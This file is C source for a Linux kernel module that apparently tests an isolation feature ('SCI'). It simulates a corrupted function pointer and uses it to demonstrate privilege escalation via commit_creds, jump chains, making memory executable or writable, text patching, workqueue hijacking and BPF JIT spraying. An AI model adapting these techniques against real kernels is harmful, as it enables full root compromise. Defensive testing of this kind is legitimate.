// SPDX-License-Identifier: GPL-2.0-only
/*
 * A corrupted function pointer, called or jumped through:
 *
 *   escalate                  into the middle of prepare_kernel_cred() and of
 *                             commit_creds(): the caller becomes the host's root
 *   escalate-calls            the same from their starts
 *   call SYMBOL [ARG]         to the start of SYMBOL
 *   mid SYMBOL OFFSET [ARG]   to SYMBOL+OFFSET
 *   jump SYMBOL OFFSET [ARG]  the same, in a tail call: the return address is that
 *                             of another call
 *   jop starts|bodies         escalate by a chain of indirect jumps
 *   make-exec                 set_memory_rox() on a heap page, which then is executed
 *   make-writable             set_memory_rw() for constants of another module, which
 *                             then are written
 *   text-poke                 the kernel's own code patcher overwrites a function of
 *                             another module, which then is called
 *   run-work call|timer|typed a root program by one call: queue_work_on(), or the
 *                             timer's function that queues work; or this one by a
 *                             pointer that is made for timers' functions
 *   fault-in                  a system call's function, called from its start, leads
 *                             to commit_creds(); then into the middle of that
 *   own-page                  a return in the page of ksys_write(), which this system call runs
 *   jit-spray                 constants in a BPF program, which are instructions when
 *                             entered in the middle
 *   leave-view                SCI's own way back to the full page table, then escalate
 */
#include <linux/cred.h>
#include <linux/filter.h>
#include <linux/gfp.h>
#include <linux/irqflags.h>
#include <linux/prctl.h>
#include <linux/sched/task.h>
#include <linux/slab.h>
#include <linux/string.h>
#include <linux/workqueue.h>

#include <asm/text-patching.h>

#include "attack.h"

typedef u64 (*attack_fn)(u64 arg, u64 arg2, u64 arg3);

/* the indirect call that the vulnerability lets go astray */
noinline u64 corrupted_call3(u64 addr, u64 arg, u64 arg2, u64 arg3)
{
	attack_fn fn = (attack_fn)addr;

	OPTIMIZER_HIDE_VAR(fn);
	arg = fn(arg, arg2, arg3);
	barrier();		/* not a tail call: leave a return address */
	return arg;
}

/* The same, of a pointer that leads to timers' functions. */
static noinline void corrupted_timer_call(u64 addr, struct timer_list *timer)
{
	void (*fn)(struct timer_list *timer) = (void *)addr;

	OPTIMIZER_HIDE_VAR(fn);
	fn(timer);
	barrier();
}

u64 corrupted_call(u64 addr, u64 arg)
{
	return corrupted_call3(addr, arg, 0, 0);
}

static int attack_escalate(int argc, char **argv, u64 *result)
{
	u64 cred;

	cred = corrupted_call(known.prepare_kernel_cred_body, (u64)&init_task);
	if (!cred)
		return -ENOMEM;
	*result = corrupted_call(known.commit_creds_body, cred);
	return 0;
}

static int attack_escalate_calls(int argc, char **argv, u64 *result)
{
	u64 cred;

	cred = corrupted_call(known.prepare_kernel_cred, (u64)&init_task);
	if (!cred)
		return -ENOMEM;
	*result = corrupted_call(known.commit_creds, cred);
	return 0;
}

static int attack_call(int argc, char **argv, u64 *result)
{
	struct target t;
	int err;

	if (argc < 2)
		return -EINVAL;
	err = resolve(&t, argv[1], NULL, argc > 2 ? argv[2] : NULL);
	if (!err)
		*result = corrupted_call(t.addr, t.arg);
	return err;
}

static int attack_mid(int argc, char **argv, u64 *result)
{
	struct target t;
	int err;

	err = resolve_target(&t, argc, argv);
	if (!err)
		*result = corrupted_call(t.addr, t.arg);
	return err;
}

static int attack_jump(int argc, char **argv, u64 *result)
{
	struct target t;
	int err;

	err = resolve_target(&t, argc, argv);
	if (!err)
		*result = sci_attack_jump(t.addr, t.arg);
	return err;
}

static int attack_jop(int argc, char **argv, u64 *result)
{
	struct jump table[3] = { };

	if (argc < 2)
		return -EINVAL;
	table[0].arg = (u64)&init_task;
	if (!strcmp(argv[1], "starts")) {
		table[0].addr = known.prepare_kernel_cred;
		table[1].addr = known.commit_creds;
	} else {
		table[0].addr = known.prepare_kernel_cred_body;
		table[1].addr = known.commit_creds_body;
	}
	*result = sci_attack_dispatch(table);
	return 0;
}

static int unmake_exec(void *page)
{
	corrupted_call3(address_of("set_memory_nx"), (u64)page, 1, 0);
	corrupted_call3(address_of("set_memory_rw"), (u64)page, 1, 0);
	return 0;
}

static int attack_make_exec(int argc, char **argv, u64 *result)
{
	struct target t;
	void *page;
	int err;

	err = resolve(&t, "set_memory_rox", NULL, NULL);
	if (err)
		return err;
	page = (void *)__get_free_page(GFP_KERNEL);
	if (!page)
		return -ENOMEM;
	memcpy(page, payload, PAYLOAD_BYTES);
	corrupted_call3(t.addr, (u64)page, 1, 0);
	*result = corrupted_call((u64)page, 0);
	err = prepare(unmake_exec, page);
	free_page((unsigned long)page);
	return err;
}

static int unmake_writable(void *page)
{
	corrupted_call3(address_of("set_memory_ro"), (u64)page, 1, 0);
	return 0;
}

static int attack_make_writable(int argc, char **argv, u64 *result)
{
	struct target set, constants;
	int err;

	err = resolve(&set, "set_memory_rw", NULL, NULL) ?:
	      resolve(&constants, "sci_bystander_constants", NULL, NULL);
	if (err)
		return err;
	corrupted_call3(set.addr, constants.addr & PAGE_MASK, 1, 0);
	WRITE_ONCE(*(u64 *)constants.addr, 42);
	*result = READ_ONCE(*(u64 *)constants.addr);
	return prepare(unmake_writable, (void *)(constants.addr & PAGE_MASK));
}

static int attack_text_poke(int argc, char **argv, u64 *result)
{
	struct target poke, victim;
	int err;

	err = resolve(&poke, "text_poke", NULL, NULL) ?:
	      resolve(&victim, "sci_bystander_victim", NULL, NULL);
	if (err)
		return err;
	corrupted_call3(poke.addr, victim.addr, (u64)payload, PAYLOAD_BYTES);
	*result = corrupted_call(victim.addr, 0);
	return 0;
}

/* Of kernel/workqueue.c: a work item that calls any function. */
struct work_for_cpu {
	struct work_struct work;
	u64 fn, arg, ret;
};

struct deferral {
	struct work_struct *program;
	union {
		struct delayed_work dwork;
		struct work_for_cpu wfc;	/* under a timer that is never armed */
	};
	u64 addr;
	bool timer;
};

static int prepare_deferral(void *data)
{
	struct deferral *d = data;

	d->program = root_program();
	if (!d->program)
		return -ENOMEM;
	d->addr = address_of(d->timer ? "delayed_work_timer_fn" : "queue_work_on");

	INIT_DELAYED_WORK(&d->dwork, (work_func_t)address_of("work_for_cpu_fn"));
	d->dwork.wq = system_wq;
	d->dwork.cpu = WORK_CPU_UNBOUND;
	d->wfc.fn = (u64)d->program->func;
	d->wfc.arg = (u64)d->program;
	/* as who queues it does before the timer's function does */
	if (d->timer)
		set_bit(WORK_STRUCT_PENDING_BIT, work_data_bits(&d->dwork.work));
	return d->addr && d->dwork.work.func ? 0 : -ENOENT;
}

static int attack_run_work(int argc, char **argv, u64 *result)
{
	struct deferral *d;
	unsigned long flags;
	int err;

	if (argc < 2)
		return -EINVAL;
	d = kzalloc(sizeof(*d), GFP_KERNEL);	/* the worker's from now on */
	if (!d)
		return -ENOMEM;
	d->timer = strcmp(argv[1], "call");
	err = prepare(prepare_deferral, d);
	if (err)
		return err;
	if (!d->timer) {
		corrupted_call3(d->addr, WORK_CPU_UNBOUND, (u64)system_wq, (u64)d->program);
		return 0;
	}
	/* It works without, with luck: the timer's function counts on it. */
	local_irq_save(flags);
	if (!strcmp(argv[1], "typed"))
		corrupted_timer_call(d->addr, &d->dwork.timer);
	else
		corrupted_call(d->addr, (u64)&d->dwork.timer);
	local_irq_restore(flags);
	return 0;
}

static int attack_fault_in(int argc, char **argv, u64 *result)
{
	struct target t;
	struct pt_regs *regs;
	int err;

	err = resolve(&t, "__x64_sys_prctl", NULL, NULL);
	if (err)
		return err;
	regs = kzalloc(sizeof(*regs), GFP_KERNEL);
	if (!regs)
		return -ENOMEM;
	regs->di = PR_SET_KEEPCAPS;
	regs->si = 1;
	corrupted_call(t.addr, (u64)regs);
	kfree(regs);
	*result = corrupted_call(known.commit_creds_body, known.init_cred);
	return 0;
}

/* A return in the page of a function that this very system call has executed. */
static int find_own_return(void *data)
{
	u64 function = address_of("ksys_write");
	u64 ip = ALIGN_DOWN(function, PAGE_SIZE), end = ip + PAGE_SIZE - JMP32_INSN_SIZE;
	u64 *found = data;

	if (!function)
		return -ENOENT;
	for (; ip < end; ip++) {
		if (is_return(ip)) {
			*found = ip;
			return 0;
		}
	}
	return -ENXIO;
}

static int attack_own_page(int argc, char **argv, u64 *result)
{
	u64 gadget;
	int err = prepare(find_own_return, &gadget);

	if (err)
		return err;
	/* what jumps has the address in RAX, and nothing else has run */
	*result = sci_attack_jump(gadget, 0) == gadget ? 42 : 0;
	return 0;
}

struct spray {
	struct bpf_prog *prog;
	u64 addr;
};

/*
 * mov $imm32,%eax of one instruction after the other; from the first constant on
 *	xor %eax,%eax; nop; cmp $0xb8,%al; mov $42,%al; nop; cmp $0xb8,%al; ret
 */
static int prepare_spray(void *data)
{
	static struct sock_filter insns[] = {
		BPF_STMT(BPF_LD | BPF_IMM, 0x3c90c031),
		BPF_STMT(BPF_LD | BPF_IMM, 0x3c902ab0),
		BPF_STMT(BPF_LD | BPF_IMM, 0x3c9090c3),
		BPF_STMT(BPF_RET | BPF_A, 0),
	};
	static const u8 sprayed[] = { 0x31, 0xc0, 0x90, 0x3c, 0xb8, 0xb0, 0x2a };
	struct sock_fprog_kern fprog = { ARRAY_SIZE(insns), insns };
	struct spray *s = data;
	u64 ip;
	int err;

	err = bpf_prog_create(&s->prog, &fprog);
	if (err)
		return err;
	for (ip = (u64)s->prog->bpf_func; ip < (u64)s->prog->bpf_func + 128; ip++)
		if (!memcmp((void *)ip, sprayed, sizeof(sprayed)))
			s->addr = ip;
	return s->addr ? 0 : -ENXIO;
}

static int attack_jit_spray(int argc, char **argv, u64 *result)
{
	struct spray s = { };
	int err = prepare(prepare_spray, &s);

	if (!err)
		*result = corrupted_call(s.addr, 0);
	if (s.prog)
		bpf_prog_destroy(s.prog);
	return err;
}

static int attack_leave_view(int argc, char **argv, u64 *result)
{
	u64 directory = address_of("sci_spaces");
	struct target t;
	int err = resolve(&t, "__sci_view_leave", NULL, NULL);

	if (err)
		return err;
	/* Booted with sci=off, it has nothing to leave, nor to look at. */
	if (directory && *(u64 *)directory)
		corrupted_call(t.addr, 0);
	return attack_escalate(argc, argv, result);
}

const struct attack control_attacks[] = {
	{ "escalate",		attack_escalate },
	{ "escalate-calls",	attack_escalate_calls },
	{ "call",		attack_call },
	{ "mid",		attack_mid },
	{ "jump",		attack_jump },
	{ "jop",		attack_jop },
	{ "make-exec",		attack_make_exec },
	{ "make-writable",	attack_make_writable },
	{ "text-poke",		attack_text_poke },
	{ "run-work",		attack_run_work },
	{ "fault-in",		attack_fault_in },
	{ "own-page",		attack_own_page },
	{ "jit-spray",		attack_jit_spray },
	{ "leave-view",		attack_leave_view },
	{ }
};
